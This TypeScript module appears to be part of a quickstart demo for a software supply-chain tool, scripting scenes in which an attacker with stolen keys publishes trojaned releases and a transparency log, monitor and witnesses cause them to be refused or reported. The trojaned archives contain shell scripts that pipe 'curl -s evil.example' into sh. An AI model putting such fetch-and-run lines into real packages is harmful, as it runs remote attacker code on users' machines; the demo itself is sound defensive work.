/**
 * The quickstart's transparency scenes. Before the first release, the vendor creates a
 * release log (a folder), two independent witnesses start (in this process, on 127.0.0.1),
 * and the root requires every release to be in the log, cosigned by both. Then:
 *
 * - an attacker who stole the online keys (targets, snapshot, timestamp) publishes a
 *   trojaned demo-app 1.1.1, signed but never logged: every client refuses it;
 * - the vendor's monitor reads the log, the witnesses' checkpoints and the repository: every
 *   logged release is listed, every checkpoint consistent;
 * - an attacker who also holds the log key logs demo-app 1.1.2, to serve it to a few chosen
 *   victims only. Logged means public: the monitor reports a release the repository does
 *   not list;
 * - so the attacker copies the log folder and extends the copy privately with demo-app
 *   1.1.3. The witnesses check data availability: they read the new entries at the log's
 *   public URL before cosigning, find nothing there, and refuse. With no cosigned proof,
 *   no client installs 1.1.3.
 */
import { createHash, randomBytes } from "node:crypto";
import { cp, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { createStaticServer, type StaticServer } from "@bulwark/publisher";
import {
  CosignatureV1Signer,
  HttpLogStore,
  listenWitness,
  MemoryWitnessState,
  type MonitorReport,
  type MonitorState,
  monitorLog,
  parseVerifierKey,
  TlogWitness,
  tufRepository,
  type WitnessEndpoint,
  type WitnessServer,
} from "@bulwark/tlog";
import { tarGz } from "./demo-archive.js";
import { listWithStolenKeys } from "./stolen-keys.js";
import type { SceneKit } from "./verified-builds.js";

const ORIGIN = "quickstart.example/log";
const LOG = path.join("vendor", "release-log");
/** The attacker's private copy of the log folder. */
const STOLEN_LOG = path.join("attacker", "release-log");

/** The release log and its witnesses, running. */
export interface ReleaseLog {
  readonly vkey: string;
  /** Where the log's public/ folder is served (its tiles, for witnesses and monitors). */
  readonly url: string;
  readonly witnesses: readonly WitnessEndpoint[];
  close(): Promise<void>;
}

/**
 * `bulwark log init`, its public/ folder served, two witnesses on 127.0.0.1 that check data
 * availability there, and `bulwark log policy set` (2 of 2), staged in the next root: the
 * first publish carries it.
 */
export async function setUpReleaseLog(kit: Pick<SceneKit, "work" | "repo" | "run" | "say">): Promise<ReleaseLog> {
  const must = async (argv: string[]) => {
    const { code, data } = await kit.run(argv);
    if (code !== 0) throw new Error(`bulwark ${argv.join(" ")} failed: ${JSON.stringify(data)}`);
    return data;
  };
  const init = await must(["log", "init", LOG, "--origin", ORIGIN]);
  const vkey = init.vkey as string;
  const logServer: StaticServer = await createStaticServer(path.join(kit.work, LOG, "public"));
  const servers: WitnessServer[] = [];
  const witnesses: WitnessEndpoint[] = [];
  for (const name of ["w1", "w2"]) {
    const signer = new CosignatureV1Signer(`${name}.witness.example`, randomBytes(32));
    const witness = new TlogWitness({
      signer,
      logs: [{ origin: ORIGIN, verifiers: [parseVerifierKey(vkey)], publicUrl: logServer.url }],
      state: new MemoryWitnessState(),
    });
    const server = await listenWitness(witness);
    servers.push(server);
    witnesses.push({ name, verifier: signer.verifier(), url: server.url });
  }
  // The log folder's own policy: `bulwark log append` asks the same witnesses.
  const policy = witnesses.map((w) => `witness ${w.name} ${w.verifier.vkey} ${w.url}\n`).join("");
  await writeFile(path.join(kit.work, LOG, "witnesses.policy"), `${policy}group both 2 w1 w2\nquorum both\n`);
  await must([
    ...["log", "policy", "set", kit.repo, "--log-dir", LOG, "--threshold", "2"],
    ...witnesses.flatMap((w) => ["--witness", `${w.name}=${w.verifier.vkey}@${w.url}`]),
  ]);
  kit.say(`  the release log ${ORIGIN} and witnesses w1 and w2 (on 127.0.0.1) are set; the root will require both`);
  kit.say(`  the log is served at ${logServer.url}; the witnesses read new entries there before cosigning`);
  return {
    vkey,
    url: logServer.url,
    witnesses,
    close: async () => void (await Promise.all([logServer, ...servers].map((s) => s.close()))),
  };
}

/** What the monitor found: one line, and a short form for the summary table. */
function summary(report: MonitorReport): { line: string; short: string } {
  const size = report.checkpoint?.size ?? "0";
  const unlisted = report.problems
    .filter((p) => p.kind === "unlisted-release")
    .map((p) => `${p.entry?.name} ${p.entry?.version} (entry ${p.index})`);
  const consistent = !report.problems.some((p) => ["split-view", "inconsistent", "rollback"].includes(p.kind));
  const witnesses = report.views.filter((v) => v.source.startsWith("witness ")).length;
  const listing =
    unlisted.length === 0
      ? "all listed by the repository"
      : `${unlisted.length} not listed by the repository: ${unlisted.join(", ")}`;
  const checkpoints = consistent ? "consistent" : "NOT consistent";
  return {
    line: `monitor: ${size} entries logged, ${listing}, checkpoints ${checkpoints} (the log's and ${witnesses} witnesses')`,
    short:
      unlisted.length === 0
        ? `${size} logged, all listed by the repository; checkpoints ${checkpoints}`
        : `${size} logged; not listed by the repository: ${unlisted.join(", ")}`,
  };
}

/** The scenes of the module comment, recorded on `kit`. */
export async function transparencyScenes(
  kit: SceneKit,
  log: ReleaseLog,
  repository: { readonly url: string; readonly root: Uint8Array },
): Promise<void> {
  kit.step(
    "An attacker stole the online keys (targets, snapshot, timestamp) and publishes a trojaned demo-app 1.1.1: signed, never logged",
  );
  await listWithStolenKeys(await kit.repoDir(), {
    name: "demo-app",
    version: "1.1.1",
    fileName: "demo-app-1.1.1.tar.gz",
    bytes: tarGz({ VERSION: "1.1.1\n", "bin/demo-app": "#!/bin/sh\ncurl -s evil.example | sh\n" }),
  });
  await kit.sync();
  const secret = await kit.attempt("endpoint-a");
  if (secret.error) kit.say(`  ${secret.error}`);
  kit.record(
    "stolen keys, not logged",
    "refused",
    secret.error?.startsWith("CLIENT_NOT_IN_LOG") ? "refused" : secret.error ? "error" : "accepted",
    secret.error ? "CLIENT_NOT_IN_LOG: no proof that 1.1.1 is in the release log" : "installed",
  );

  kit.step("The vendor's monitor reads the log (over HTTP), both witnesses' checkpoints and the repository");
  const metadataDir = await mkdtemp(path.join(tmpdir(), "bulwark-quickstart-monitor-"));
  try {
    const monitor = async (state?: MonitorState) =>
      monitorLog({
        origin: ORIGIN,
        logVerifier: parseVerifierKey(log.vkey),
        logs: [{ name: log.url, store: new HttpLogStore(log.url) }],
        repository: await tufRepository({ url: repository.url, trustedRoot: repository.root, metadataDir }),
        witnesses: log.witnesses,
        ...(state ? { state } : {}),
      });
    const honest = await monitor();
    kit.say(`  ${summary(honest).line}`);
    kit.record("monitor: vendor's releases", "consistent", honest.ok ? "consistent" : "problem", summary(honest).short);

    kit.step("The attacker also holds the log key, and logs demo-app 1.1.2 to serve it to a few chosen victims only");
    const bytes = tarGz({ VERSION: "1.1.2\n", "bin/demo-app": "#!/bin/sh\ncurl -s evil.example/x | sh\n" });
    const sha256 = (b: Uint8Array | string) => createHash("sha256").update(b).digest("hex");
    const entry = {
      ...{ name: "demo-app", version: "1.1.2", path: "demo-app/1.1.2/demo-app-1.1.2.tar.gz" },
      ...{ sha256: sha256(bytes), length: bytes.length },
      targets: { role: "targets", version: 99, sha256: sha256("the targets metadata only its victims get") },
    };
    await writeFile(path.join(kit.work, "secret-release.json"), JSON.stringify(entry));
    const appended = await kit.run(["log", "append", LOG, "--entry", "secret-release.json"]);
    if (appended.code !== 0) throw new Error(`bulwark log append failed: ${JSON.stringify(appended.data)}`);
    kit.say("  cosigned by w1 and w2: clients would accept it — and it is now public");
    const caught = await monitor(honest.state);
    kit.say(`  ${summary(caught).line}`);
    const reported = caught.problems.some((p) => p.kind === "unlisted-release" && p.entry?.version === "1.1.2");
    kit.record("logged secret release", "reported", reported ? "reported" : "missed", summary(caught).short);
  } finally {
    await rm(metadataDir, { recursive: true, force: true });
  }
  await privateLogScene(kit);
}

/** The attacker extends a copy of the log; the witnesses, reading the public log, refuse. */
async function privateLogScene(kit: SceneKit): Promise<void> {
  kit.step(
    "So the attacker copies the log folder (with the log key) and extends the copy privately with demo-app 1.1.3",
  );
  await cp(path.join(kit.work, LOG), path.join(kit.work, STOLEN_LOG), { recursive: true });
  const bytes = tarGz({ VERSION: "1.1.3\n", "bin/demo-app": "#!/bin/sh\ncurl -s evil.example/y | sh\n" });
  const sha256 = (b: Uint8Array | string) => createHash("sha256").update(b).digest("hex");
  const entry = {
    ...{ name: "demo-app", version: "1.1.3", path: "demo-app/1.1.3/demo-app-1.1.3.tar.gz" },
    ...{ sha256: sha256(bytes), length: bytes.length },
    targets: { role: "targets", version: 99, sha256: sha256("the targets metadata only its victims get") },
  };
  await writeFile(path.join(kit.work, "private-release.json"), JSON.stringify(entry));
  const appended = await kit.run(["log", "append", STOLEN_LOG, "--entry", "private-release.json"]);
  const error = appended.data.error as { code?: string } | undefined;
  const unavailable = appended.code !== 0 && error?.code === "TLOG_DATA_UNAVAILABLE";
  kit.say(
    unavailable
      ? "  refused by w1 and w2 (TLOG_DATA_UNAVAILABLE): they read the log's public URL and the new entry is not there"
      : `  the witnesses answered: ${JSON.stringify(appended.data)}`,
  );
  // Signed with the stolen online keys, with no cosigned proof to go with it.
  await listWithStolenKeys(await kit.repoDir(), {
    name: "demo-app",
    version: "1.1.3",
    fileName: "demo-app-1.1.3.tar.gz",
    bytes,
  });
  await kit.sync();
  const attempt = await kit.attempt("endpoint-a");
  if (attempt.error) kit.say(`  ${attempt.error}`);
  const refused = unavailable && attempt.error?.startsWith("CLIENT_NOT_IN_LOG") === true;
  kit.record(
    "private log extension",
    "refused",
    refused ? "refused" : attempt.error ? "error" : "accepted",
    "TLOG_DATA_UNAVAILABLE: no witness cosigns entries it cannot read publicly; no client installs 1.1.3",
  );
}
